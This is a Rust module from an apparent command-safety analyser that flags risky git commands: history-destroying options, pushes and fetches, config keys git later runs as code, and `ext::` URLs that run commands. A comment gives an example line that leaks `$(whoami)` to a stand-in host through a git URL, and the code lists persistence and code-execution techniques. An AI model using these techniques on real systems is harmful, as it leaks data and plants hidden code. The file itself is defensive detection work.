//! git: history destroyed, uncommitted work thrown away, pushes to a new place, fetches, and
//! settings that git runs as code later (hooks, aliases, filters, helpers).

use super::network::{remote_host, url_host};
use super::words::option_value;
use super::{Effects, Kind, Line};
use crate::command::SimpleCommand;
use crate::knowledge::{config_code, Reading};

/// A git command as read: its subcommand and the operands after it.
struct Git<'a> {
    cmd: &'a SimpleCommand,
    reading: &'a Reading<'a>,
    sub: &'a str,
    ops: Vec<&'a str>,
}

impl Git<'_> {
    /// Whether one of `names` is given, as the program knowledge reads it or written whole.
    fn flag(&self, names: &[&str]) -> bool {
        // The options git's table knows, read as it reads them; the others as spelled.
        let known = |n: &str| {
            self.reading.options.iter().any(|u| {
                let named = |s: &&crate::knowledge::OptSpec| s.names.iter().any(|x| x == n);
                u.spec.is_some_and(|s| !u.negated && named(&s)) || u.candidates.iter().any(named)
            })
        };
        names.iter().any(|n| {
            known(n)
                || if n.starts_with("--") || n.len() != 2 {
                    self.cmd.gives_flag(n, false)
                } else {
                    self.short_flag(n)
                }
        })
    }

    /// A short option given alone or in a cluster (`-fq`), up to one of the subcommand's that
    /// takes a value, whose rest is that value (`-bfix-typo` is `-b fix-typo`, no `-f`).
    fn short_flag(&self, name: &str) -> bool {
        let takes_value: &[char] = match self.sub {
            "checkout" => &['b', 'B'],
            "switch" => &['c', 'C'],
            "commit" => &['m', 'F', 'C', 'c'],
            "branch" | "tag" => &['m'],
            _ => &[],
        };
        let want = name.chars().nth(1);
        self.cmd
            .argv
            .iter()
            .skip(1)
            .map(|w| w.value.as_str())
            .take_while(|v| *v != "--")
            .filter(|v| v.starts_with('-') && !v.starts_with("--") && v.len() > 1)
            .any(|v| {
                for c in v.chars().skip(1) {
                    if Some(c) == want {
                        return true;
                    }
                    if takes_value.contains(&c) {
                        return false;
                    }
                }
                false
            })
    }
}

/// A git word that is an `ext::CMD` URL, which runs CMD wherever git takes a URL. Any word,
/// whatever the subcommand: which of its words git reads as a URL is not read from the tables.
pub(crate) fn ext_url(cmd: &SimpleCommand) -> Option<&crate::command::Word> {
    if cmd.program() != "git" {
        return None;
    }
    cmd.argv.iter().find(|w| {
        let v = w.value.to_ascii_lowercase();
        v.starts_with("ext::") || v.contains("::ext::")
    })
}

impl Effects<'_, '_> {
    /// git: history destroyed, uncommitted work thrown away, pushes to a new place, hooks.
    pub(super) fn git(&mut self, cmd: &SimpleCommand, reading: &Reading, line: &Line) {
        if cmd.program() != "git" {
            return;
        }
        let sub = reading
            .path
            .first()
            .copied()
            .or_else(|| positional_after_globals(cmd));
        let Some(sub) = sub else { return };
        let git = Git {
            cmd,
            reading,
            sub,
            ops: git_operands(cmd, sub),
        };
        self.git_history(&git);
        // `ext::CMD` URLs run CMD; `-c include.path=F` reads settings (and the commands they
        // hold) from a file; `-c protocol.*.allow` lets a URL run one.
        if let Some(url) = ext_url(cmd) {
            self.push(
                Kind::RunCode,
                format!("`{}` is a URL that runs a command", url.value),
                None,
            );
        }
        for pair in cmd.argv.windows(2) {
            let setting = pair[1].value.to_ascii_lowercase();
            if pair[0].value == "-c"
                && (setting.starts_with("include") || setting.starts_with("protocol."))
            {
                self.push(
                    Kind::RunCode,
                    format!(
                        "`-c {}` brings in settings or commands git runs",
                        pair[1].value
                    ),
                    None,
                );
            }
        }
        match sub {
            "push" => self.git_push(&git, line),
            "send-email" => self.push(
                Kind::NetworkUpload,
                "mails patches of the project's commits".into(),
                None,
            ),
            "fetch" | "pull" | "clone" | "ls-remote" | "submodule" => {
                let host = git
                    .ops
                    .iter()
                    .find_map(|o| url_host(o).or_else(|| remote_host(o)));
                let from = host.clone().unwrap_or_else(|| "a remote".into());
                // A remote address computed when it runs carries what it is computed from
                // (`git ls-remote "https://x.example/$(whoami)"`).
                let computed = git.cmd.argv.iter().skip(1).find(|w| {
                    w.dynamic
                        && (w.value.contains("://")
                            || w.value.contains('@')
                            || w.value.contains(':'))
                });
                if let Some(w) = computed {
                    self.push(
                        Kind::NetworkUpload,
                        format!("sends what `{}` is computed from in the address", w.value),
                        host.clone(),
                    );
                }
                self.push(Kind::NetworkFetch, format!("fetches from {from}"), host);
            }
            "config" => self.git_config(&git),
            _ => {}
        }
    }

    /// History destroyed or uncommitted work thrown away, by subcommand.
    fn git_history(&mut self, git: &Git) {
        let (sub, ops) = (git.sub, &git.ops);
        let flag = |names: &[&str]| git.flag(names);
        let mut history = |what: String| self.push(Kind::DeleteHistory, what, None);
        match sub {
            "push" => {
                if flag(&[
                    "-f",
                    "--force",
                    "--mirror",
                    "--delete",
                    "-d",
                    "--prune",
                    "--force-with-lease",
                    "--force-if-includes",
                ]) {
                    history("force-pushes or deletes remote branches".into());
                }
                if let Some(r) = ops
                    .iter()
                    .skip(1)
                    .find(|o| o.starts_with(':') || o.starts_with('+'))
                {
                    history(format!("rewrites or deletes the remote branch `{r}`"));
                }
            }
            "reset" if flag(&["--hard", "--merge", "--keep"]) => {
                history("throws away uncommitted changes".into())
            }
            // `clean.requireForce=false` (config, or `-c`) lets it delete without `-f`: any
            // clean that is not a dry run deletes.
            "clean" if !flag(&["-n", "--dry-run"]) => history("deletes untracked files".into()),
            "switch" if flag(&["-f", "--force", "--discard-changes"]) => {
                history("throws away uncommitted changes".into())
            }
            // `git checkout REF PATH…` overwrites the files too (`-b NAME` makes a branch).
            "checkout"
                if flag(&["-f", "--force", "--pathspec-from-file"])
                    || ops_after_dashdash(git.cmd)
                    || ops.contains(&".")
                    || (ops.len() >= 2 && !flag(&["-b", "-B", "--orphan"])) =>
            {
                history("overwrites files with uncommitted changes".into())
            }
            "restore" if !flag(&["--staged", "-S"]) || flag(&["--worktree", "-W"]) => {
                history("throws away uncommitted changes".into())
            }
            "stash" if matches!(ops.first(), Some(&"clear" | &"drop")) => {
                history("deletes stashed changes".into())
            }
            "branch"
                if flag(&["-D"]) || (flag(&["-d", "--delete"]) && flag(&["-f", "--force"])) =>
            {
                history("deletes a branch that may not be merged".into())
            }
            // `git branch -f main HEAD~3`, `-C`: an existing branch moved or replaced leaves
            // its commits behind. (`-M`, a rename over a branch, is left to the person.)
            "branch" if flag(&["-f", "--force", "-C"]) => {
                history("moves or replaces a branch, leaving its commits behind".into())
            }
            "update-ref" => history("moves or deletes a ref".into()),
            "reflog" if matches!(ops.first(), Some(&"expire" | &"delete" | &"drop")) => {
                history("deletes reflog entries".into())
            }
            "gc" if git.cmd.argv.iter().any(|w| w.value.starts_with("--prune")) => {
                history("prunes unreachable commits".into())
            }
            "prune" | "filter-branch" | "filter-repo" => {
                history(format!("git {sub} rewrites or deletes history"))
            }
            "worktree" if ops.first() == Some(&"remove") && flag(&["-f", "--force"]) => {
                history("deletes a worktree with its changes".into())
            }
            _ => {}
        }
    }

    /// `git push`: to a host, to a remote an earlier command of the line set, or to a
    /// configured remote.
    fn git_push(&mut self, git: &Git, line: &Line) {
        let repo = option_value(
            &git.cmd
                .argv
                .iter()
                .map(|w| w.value.as_str())
                .collect::<Vec<_>>(),
            &["--repo"],
        )
        .or_else(|| git.ops.first().copied())
        // A push names no remote: it goes to `origin` (whose URL the line may have changed).
        .unwrap_or("origin");
        let host = remote_host(repo).or_else(|| url_host(repo));
        // Every push sends the project's commits away, to a configured remote too: what it
        // sends is the point of it, and it may set off whatever the remote does on a push.
        let what = if let Some(h) = &host {
            format!("pushes the repository to {h}")
        } else if line.remotes.iter().any(|r| r == repo || r == "*") {
            format!("pushes the repository to `{repo}`, a remote set earlier in the line")
        } else {
            format!("pushes commits to `{repo}`")
        };
        self.push(Kind::NetworkUpload, what, host);
    }

    /// `git config` setting a key git runs as code later, or a global setting.
    fn git_config(&mut self, git: &Git) {
        let global = git.flag(&["--global", "--system"])
            || git.cmd.argv.iter().any(|w| w.value.starts_with("--file"));
        let reads = git.flag(&[
            "--get",
            "--get-all",
            "--get-regexp",
            "-l",
            "--list",
            "--show-origin",
            "--get-urlmatch",
        ]) || git.ops.len() < 2
            && !git.flag(&[
                "--unset",
                "--unset-all",
                "--add",
                "--replace-all",
                "--edit",
                "-e",
                "--remove-section",
                "--rename-section",
            ]);
        // git 2.46's `git config get|list|set|unset KEY`.
        let verb = git.ops.first().copied().unwrap_or("");
        let reads = match verb {
            "get" | "list" => true,
            "set" | "unset" | "rename-section" | "remove-section" | "edit" => false,
            _ => reads,
        };
        if reads {
            return;
        }
        // `-f FILE`: the file written is a setting file git reads (`.git/config`).
        let file = option_value(
            &git.cmd
                .argv
                .iter()
                .map(|w| w.value.as_str())
                .collect::<Vec<_>>(),
            &["-f", "--file"],
        );
        if let Some(f) = file {
            self.write_text(f);
        }
        let key = git
            .ops
            .iter()
            .skip(usize::from(matches!(verb, "set" | "unset")))
            .find(|o| !o.starts_with('-'))
            .copied()
            .unwrap_or("");
        let lower = key.to_ascii_lowercase();
        if lower.starts_with("url.") && lower.ends_with("insteadof") {
            self.push(
                Kind::Persist,
                format!("sets `{key}`: git fetches and pushes go elsewhere from now on"),
                None,
            );
        } else if runs_as_code(key) {
            self.push(
                Kind::Persist,
                format!("sets `{key}`, which git runs as code later"),
                None,
            );
        } else if global {
            self.push(
                Kind::WriteOutside,
                format!("changes the global git setting `{key}`"),
                None,
            );
        }
    }
}

/// Whether git runs the value of the setting `key` as code: hooks, aliases, filters, helpers,
/// and what the carried-settings knowledge knows to run.
fn runs_as_code(key: &str) -> bool {
    let lower = key.to_ascii_lowercase();
    config_code(&format!("{lower}=x"), false).is_some()
        || lower.starts_with("alias.")
        || lower.contains("hookspath")
        || lower.ends_with(".textconv")
        || lower.starts_with("filter.")
        || lower.contains("helper")
        // Settings that bring in more settings or commands: another file, a protocol that
        // runs a command (`ext::`).
        || lower.starts_with("include")
        || lower.starts_with("protocol.")
        || lower.ends_with(".command")
}

/// The first word after git's global options (`-C DIR`, `--git-dir DIR`): its subcommand.
pub(super) fn positional_after_globals(cmd: &SimpleCommand) -> Option<&str> {
    let mut i = 1;
    while let Some(w) = cmd.argv.get(i) {
        let v = w.value.as_str();
        if matches!(v, "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace") {
            i += 2;
        } else if v.starts_with('-') {
            i += 1;
        } else {
            return Some(v);
        }
    }
    None
}

/// The operands of a git subcommand: the non-option words after it.
fn git_operands<'c>(cmd: &'c SimpleCommand, sub: &str) -> Vec<&'c str> {
    let words: Vec<&str> = cmd.argv.iter().map(|w| w.value.as_str()).collect();
    let Some(at) = words.iter().position(|w| *w == sub) else {
        return Vec::new();
    };
    words[at + 1..]
        .iter()
        .copied()
        .filter(|w| !w.starts_with('-'))
        .collect()
}

/// Whether words follow `--` (`git checkout -- file`).
fn ops_after_dashdash(cmd: &SimpleCommand) -> bool {
    let words: Vec<&str> = cmd.argv.iter().map(|w| w.value.as_str()).collect();
    words
        .iter()
        .position(|w| *w == "--")
        .is_some_and(|i| i + 1 < words.len())
}
